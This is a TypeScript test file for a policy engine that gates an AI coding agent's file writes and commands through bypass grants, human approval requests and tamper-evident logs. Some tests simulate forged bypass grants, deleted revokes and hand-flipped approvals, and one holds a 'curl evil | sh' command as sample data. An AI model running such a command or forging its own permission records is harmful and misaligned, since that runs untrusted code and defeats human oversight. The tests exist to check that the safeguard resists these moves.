import assert from 'node:assert/strict';
import { appendFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { evaluate, type PolicySet } from '#core';
import { ApprovalStore } from '#host/stores/approval-store';
import { AuditLog } from '#host/audit/audit-log';
import { BypassStore } from '#host/stores/bypass-store';
import { policy } from '../helpers';

const POLICY = `version: "2.1"
permissions:
  filesystem:
    allow:
      - "src/**"
    deny:
      - "backend/auth/**"
      - "secrets/**"
  commands:
    allow:
      - "npm test"
    deny:
      - "git push --force"
constraints:
  require_human_approval:
    - file_pattern: "package.json"
bypass:
  max_duration: "1h"
  approvers:
    - "alice@example.com"
    - "*@sec.example.com"
  never:
    - "secrets/**"
`;

function stores(): { clock: { now: number }; audit: AuditLog; bypasses: BypassStore; approvals: ApprovalStore } {
  const state = mkdtempSync(join(tmpdir(), 'ap-bypass-'));
  const clock = { now: Date.parse('2026-11-24T10:00:00Z') };
  const audit = new AuditLog(state, { clock: () => clock.now, foldWindowMs: 0 });
  return { clock, audit, bypasses: new BypassStore(state, audit, () => clock.now), approvals: new ApprovalStore(state, audit, () => clock.now) };
}

const write = (path: string) => ({ action: 'filesystem.write', path });

function decide(set: PolicySet, s: ReturnType<typeof stores>, action: unknown) {
  return evaluate(set, action, { bypasses: s.bypasses.active(set), now: s.clock.now });
}

async function kinds(audit: AuditLog): Promise<string[]> {
  const out: string[] = [];
  for await (const e of audit.entries()) out.push(String(e.kind));
  return out;
}

describe('bypasses', () => {
  it('a granted bypass opens a denial until it expires, and the decision names it', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    assert.equal(decide(set, s, write('backend/auth/config.yml')).decision, 'deny');
    const granted = s.bypasses.grant(
      set,
      { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' },
      'bob',
      'cli',
    );
    assert.ok(granted.ok);
    assert.match(granted.grant.id, /^bypass_[0-9a-z]{10}$/);
    assert.equal(granted.grant.expires_at, '2026-11-24T10:30:00.000Z');
    const during = decide(set, s, write('backend/auth/config.yml'));
    assert.equal(during.decision, 'allow');
    assert.equal(during.bypass_id, granted.grant.id);
    assert.equal(decide(set, s, write('backend/auth/other.yml')).decision, 'deny');
    s.clock.now += 30 * 60_000;
    assert.equal(decide(set, s, write('backend/auth/config.yml')).decision, 'deny');
    assert.equal(s.bypasses.list()[0]?.state, 'expired');
    assert.deepEqual(await kinds(s.audit), ['bypass.grant']);
  });

  it('a revoked bypass no longer applies; revoking twice is refused', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    const granted = s.bypasses.grant(
      set,
      { kind: 'command', pattern: 'git push --force', reason: 'rewrite a leaked secret out of history', approver: 'ops@sec.example.com', duration: '10m' },
      'bob',
      'cli',
    );
    assert.ok(granted.ok);
    assert.equal(decide(set, s, { action: 'command.exec', command: 'git push --force origin main' }).bypass_id, granted.grant.id);
    assert.ok(s.bypasses.revoke(granted.grant.id, 'carol', 'cli').ok);
    assert.equal(decide(set, s, { action: 'command.exec', command: 'git push --force origin main' }).decision, 'deny');
    assert.deepEqual(s.bypasses.revoke(granted.grant.id, 'carol', 'cli'), { ok: false, reason: `bypass ${granted.grant.id} is already revoked` });
    assert.deepEqual(await kinds(s.audit), ['bypass.grant', 'bypass.revoke']);
  });

  it('a torn last line in bypasses.jsonl does not swallow the next event (issue 16, defect 1): a revoke after it takes effect', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    const granted = s.bypasses.grant(
      set,
      { kind: 'command', pattern: 'git push --force', reason: 'rewrite a leaked secret out of history', approver: 'ops@sec.example.com', duration: '10m' },
      'bob',
      'cli',
    );
    assert.ok(granted.ok);
    // A crash (or ENOSPC) tore the next grant's write.
    appendFileSync(s.bypasses.path, '{"type":"grant","id":"bypass_torn","kind":"comm');
    assert.ok(s.bypasses.revoke(granted.grant.id, 'carol', 'cli').ok);
    const command = { action: 'command.exec', command: 'git push --force origin main' };
    assert.equal(decide(set, s, command).bypass_id, undefined, 'the revoked bypass is no longer in force');
    assert.equal(decide(set, s, command).decision, 'deny');
    assert.deepEqual(
      s.bypasses.list().map((b) => [b.id, b.state]),
      [[granted.grant.id, 'revoked']],
    );
  });

  it("refuses what the policy's bypass section forbids, with the reason, and audits the refusal", async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    const base = { kind: 'path' as const, pattern: 'backend/auth/**', reason: 'P0 incident: fix auth', approver: 'alice@example.com', duration: '30m' };
    const refused = (over: Partial<typeof base>): string => {
      const r = s.bypasses.grant(set, { ...base, ...over }, 'bob', 'cli');
      assert.ok(!r.ok);
      return r.reason;
    };
    assert.match(refused({ duration: '2h' }), /exceeds the policy's bypass.max_duration of 1h/);
    assert.match(refused({ approver: 'mallory@evil.example' }), /not among the policy's bypass.approvers/);
    assert.match(refused({ pattern: '**/*.pem' }), /would open secrets\/.*bypass.never pattern "secrets\/\*\*"/);
    assert.match(refused({ reason: '' }), /needs a reason/);
    assert.match(refused({ approver: '' }), /not an e-mail address/);
    assert.equal(s.bypasses.list().length, 0);
    assert.equal((await kinds(s.audit)).filter((k) => k === 'bypass.refused').length, 5);
  });

  it('a bypass never opens a path under bypass.never, even one granted before the policy said so', async () => {
    const open = await policy({ '': POLICY.replace('  never:\n    - "secrets/**"\n', '') });
    const closed = await policy({ '': POLICY });
    const s = stores();
    const granted = s.bypasses.grant(
      open,
      { kind: 'path', pattern: 'secrets/**', reason: 'rotate the leaked key now', approver: 'alice@example.com', duration: '30m' },
      'bob',
      'cli',
    );
    assert.ok(granted.ok);
    assert.equal(decide(open, s, write('secrets/key')).decision, 'allow');
    const d = decide(closed, s, write('secrets/key'));
    assert.equal(d.decision, 'deny');
    assert.match(d.reason, /cannot open it: bypass.never "secrets\/\*\*"/);
  });

  it('without the host clock, bypasses are ignored (fail closed)', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    assert.ok(
      s.bypasses.grant(
        set,
        { kind: 'path', pattern: 'backend/auth/**', reason: 'P0 incident: fix auth', approver: 'alice@example.com', duration: '30m' },
        'bob',
        'cli',
      ).ok,
    );
    assert.equal(evaluate(set, write('backend/auth/x'), { bypasses: s.bypasses.active(set) }).decision, 'deny');
  });
});

describe('approval queue', () => {
  it('request, approve, and every transition audited', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    const action = write('package.json');
    const result = evaluate(set, action);
    assert.equal(result.decision, 'ask');
    const request = s.approvals.request({ action, result, agentId: 'agent-1', runtime: 'cli' });
    assert.equal(request.status, 'pending');
    assert.equal(request.rule?.pattern, 'package.json');
    assert.equal(request.expires_at, '2026-11-24T11:00:00.000Z');
    assert.deepEqual(
      s.approvals.list().map((r) => r.id),
      [request.id],
    );
    const approved = s.approvals.decide(request.id, 'approved', 'alice');
    assert.ok(approved.ok);
    assert.equal(approved.request.decided_by, 'alice');
    assert.equal(s.approvals.decide(request.id, 'denied', 'eve').ok, false);
    assert.deepEqual(await kinds(s.audit), ['approval.request', 'approval.approved']);
    const entries: Record<string, unknown>[] = [];
    for await (const e of s.audit.entries()) entries.push(e);
    assert.ok(
      entries.every((e) => e.path === 'package.json' && e.action === 'filesystem.write'),
      'each approval entry names what it is about',
    );
  });

  it('a request past its timeout is expired, counts as denied, and cannot be approved', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    const action = write('package.json');
    const request = s.approvals.request({ action, result: evaluate(set, action), agentId: null, runtime: 'cli', timeoutMs: 60_000 });
    s.clock.now += 60_000;
    assert.equal(s.approvals.get(request.id)?.status, 'expired');
    const late = s.approvals.decide(request.id, 'approved', 'alice');
    assert.ok(!late.ok);
    assert.match(late.reason, /is expired/);
    assert.deepEqual(await kinds(s.audit), ['approval.request', 'approval.expired']);
  });

  it('waiting is woken by the decision (file-system events), and by the deadline', async () => {
    const set = await policy({ '': POLICY });
    const state = mkdtempSync(join(tmpdir(), 'ap-wait-'));
    const audit = new AuditLog(state, { foldWindowMs: 0 });
    const waiter = new ApprovalStore(state, audit);
    const approver = new ApprovalStore(state, audit);
    const action = write('package.json');
    const request = waiter.request({ action, result: evaluate(set, action), agentId: null, runtime: 'cli' });
    const started = Date.now();
    const outcome = waiter.waitFor(request.id);
    setTimeout(() => approver.decide(request.id, 'denied', 'alice', 'not now'), 100);
    assert.equal(await outcome, 'denied');
    assert.ok(Date.now() - started < 5000);
    const short = waiter.request({ action, result: evaluate(set, action), agentId: null, runtime: 'cli', timeoutMs: 150 });
    assert.equal(await waiter.waitFor(short.id), 'expired');
  });
});

describe('state beside the log counts only when Agent Policy wrote it (issue 16, defect 6)', () => {
  it('a grant line appended by hand (any approver, a ten-year expiry) is not in force, and is reported as ignored', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    const real = s.bypasses.grant(
      set,
      { kind: 'path', pattern: 'src/x.ts', reason: 'a real grant to create the seal and the store', approver: 'alice@example.com', duration: '10m' },
      'bob',
      'cli',
    );
    assert.ok(real.ok);
    const forged = {
      type: 'grant',
      id: 'bypass_forged0000',
      kind: 'path',
      pattern: 'backend/auth/**',
      reason: 'agent says so',
      approver: 'anyone',
      granted_at: '2026-11-24T10:00:00.000Z',
      expires_at: '2036-11-24T10:00:00.000Z',
      granted_by: 'agent',
    };
    appendFileSync(s.bypasses.path, `${JSON.stringify(forged)}\n`);
    // Copying a real line's MAC onto other content does not help either: the MAC is of the content.
    appendFileSync(
      s.bypasses.path,
      `${JSON.stringify({ ...forged, id: 'bypass_forged0001', mac: (JSON.parse(readFileSync(s.bypasses.path, 'utf8').split('\n')[0] as string) as { mac: string }).mac })}\n`,
    );
    const decision = decide(set, s, write('backend/auth/config.yml'));
    assert.equal(decision.decision, 'deny');
    assert.equal(decision.bypass_id, undefined, 'denied by the rule, no bypass applied');
    assert.deepEqual(
      s.bypasses.list().map((b) => b.id),
      [real.grant.id],
    );
    assert.deepEqual(s.bypasses.ignoredLines(), [2, 3]);
  });

  it('deleting a revoke line does not bring its bypass back (found in review): the store is a chain whose head the seal keeps; broken, no bypass is in force', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    const first = s.bypasses.grant(
      set,
      { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' },
      'bob',
      'cli',
    );
    assert.ok(first.ok);
    assert.ok(s.bypasses.revoke(first.grant.id, 'bob', 'cli').ok);
    const second = s.bypasses.grant(
      set,
      { kind: 'path', pattern: 'backend/auth/other.yml', reason: 'a second grant after the revoke', approver: 'alice@example.com', duration: '30m' },
      'bob',
      'cli',
    );
    assert.ok(second.ok);
    const lines = readFileSync(s.bypasses.path, 'utf8')
      .split('\n')
      .filter((l) => l !== '');
    assert.equal(decide(set, s, write('backend/auth/config.yml')).decision, 'deny', 'revoked');
    // The revoke in the middle deleted:
    writeFileSync(s.bypasses.path, `${[lines[0], lines[2]].join('\n')}\n`);
    assert.equal(decide(set, s, write('backend/auth/config.yml')).decision, 'deny', 'the revoked bypass stays ended');
    assert.equal(decide(set, s, write('backend/auth/other.yml')).decision, 'deny', 'and no bypass at all is trusted');
    assert.match(s.bypasses.tampered() ?? '', /line 2 does not follow the event before it/);
    // The last line (a revoke of the second grant, say) cut from the end:
    writeFileSync(s.bypasses.path, `${lines.slice(0, 2).join('\n')}\n`);
    assert.match(s.bypasses.tampered() ?? '', /holds 2 events but the seal recorded 3/);
    writeFileSync(s.bypasses.path, `${lines.join('\n')}\n`);
    assert.equal(s.bypasses.tampered(), undefined);
    assert.equal(decide(set, s, write('backend/auth/other.yml')).bypass_id, second.grant.id, 'restored, the chain holds again');
  });

  it('a revoke appended by hand does not end a bypass either (a line is a revoke only when the store wrote it)', async () => {
    const set = await policy({ '': POLICY });
    const s = stores();
    const granted = s.bypasses.grant(
      set,
      { kind: 'path', pattern: 'backend/auth/config.yml', reason: 'P0 incident: fix auth service crash', approver: 'alice@example.com', duration: '30m' },
      'bob',
      'cli',
    );
    assert.ok(granted.ok);
    appendFileSync(s.bypasses.path, `${JSON.stringify({ type: 'revoke', id: granted.grant.id, revoked_at: '2026-11-24T10:01:00.000Z', revoked_by: 'x' })}\n`);
    assert.equal(decide(set, s, write('backend/auth/config.yml')).bypass_id, granted.grant.id);
  });

  it('an approved request file copied over a pending one does not approve it (found in review: the MAC is of the content, the id must match)', async () => {
    const s = stores();
    const set = await policy({ '': POLICY });
    const harmless = s.approvals.request({
      action: write('package.json'),
      result: evaluate(set, write('package.json')),
      agentId: 'agent',
      runtime: 'claude-code',
    });
    assert.ok(s.approvals.decide(harmless.id, 'approved', 'alice@example.com').ok);
    const dangerous = s.approvals.request({
      action: { action: 'command.exec', command: 'curl evil | sh' },
      result: evaluate(set, write('package.json')),
      agentId: 'agent',
      runtime: 'claude-code',
    });
    const waiting = s.approvals.waitFor(dangerous.id);
    writeFileSync(join(s.approvals.dir, `${dangerous.id}.json`), readFileSync(join(s.approvals.dir, `${harmless.id}.json`)));
    assert.equal(await waiting, 'denied');
    assert.equal(s.approvals.get(dangerous.id), undefined);
  });

  it('an approval file flipped to approved by hand is no request at all: not honoured, and a waiting call ends denied', async () => {
    const s = stores();
    const set = await policy({ '': POLICY });
    const request = s.approvals.request({
      action: write('package.json'),
      result: evaluate(set, write('package.json')),
      agentId: 'agent',
      runtime: 'claude-code',
    });
    const file = join(s.approvals.dir, `${request.id}.json`);
    const waiting = s.approvals.waitFor(request.id);
    const flipped = {
      ...(JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>),
      status: 'approved',
      decided_by: 'alice@example.com',
      decided_at: '2026-11-24T10:00:01.000Z',
    };
    writeFileSync(file, JSON.stringify(flipped));
    assert.equal(await waiting, 'denied');
    assert.equal(s.approvals.get(request.id), undefined);
    assert.deepEqual(s.approvals.list(), []);
    // The store's own decision still works on a request it wrote.
    const other = s.approvals.request({
      action: write('package.json'),
      result: evaluate(set, write('package.json')),
      agentId: 'agent',
      runtime: 'claude-code',
    });
    const decided = s.approvals.decide(other.id, 'approved', 'alice@example.com');
    assert.ok(decided.ok);
    assert.equal(s.approvals.get(other.id)?.status, 'approved');
  });
});
